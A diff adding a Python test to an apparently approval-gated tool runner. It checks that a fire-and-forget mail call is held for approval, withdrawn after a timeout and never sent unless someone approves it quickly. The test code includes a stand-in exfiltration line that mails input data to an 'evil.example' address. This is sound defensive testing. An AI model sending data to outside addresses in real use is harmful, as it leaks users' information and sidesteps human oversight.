@@ -192,3 +192,21 @@ def test_what_a_principal_did_is_known_after_a_restart(t):
         t.equal((risk(d)["level"], risk(d)["findings"][0]["id"]), ("MEDIUM", "history"), "risk afterwards")
     with Daemon(t) as d:
         t.equal((risk(d)["level"], risk(d)["findings"][0]["id"]), ("MEDIUM", "history"), "risk after a restart")
+
+
+def test_a_call_that_nobody_waits_for_is_asked_about_for_five_seconds(t):
+    """The program has returned: like every call this one may finish, but not for as long as a person might take."""
+    sent = office(t, {"tools": {"ask": ["mail/*"]}}, roles=("mail",))
+    code = "mail.sendMail({ to: 'x@evil.example', subject: inputs.s, body: 'b' }).catch(() => {}); return 'done'"
+    with Waiting(t, code, "-i", '{"s": "one"}', "-o", "json") as w:
+        approval, start = w.asked(), time.monotonic()
+        done = w.end().json()
+        took = time.monotonic() - start
+    t.equal((done["result"], [c["status"] for c in done["calls"]]), ("done", ["cancelled"]), "how it ended")
+    t.true(took < 15, "it took %.1f s, and the question has 30" % took)
+    t.equal([(r["id"], r["state"]) for r in pending(t, "--all")], [(approval, "withdrawn")], "the question")
+    t.equal(sent(), [], "what was sent")
+    with Waiting(t, code, "-i", '{"s": "two"}', "-o", "json") as w:
+        w.answer("approve", "--yes")
+        t.equal(w.end().json()["calls"][0]["status"], "ok", "the call, if somebody was quick")
+    t.equal([m["subject"] for m in sent()], ["two"], "what was sent")
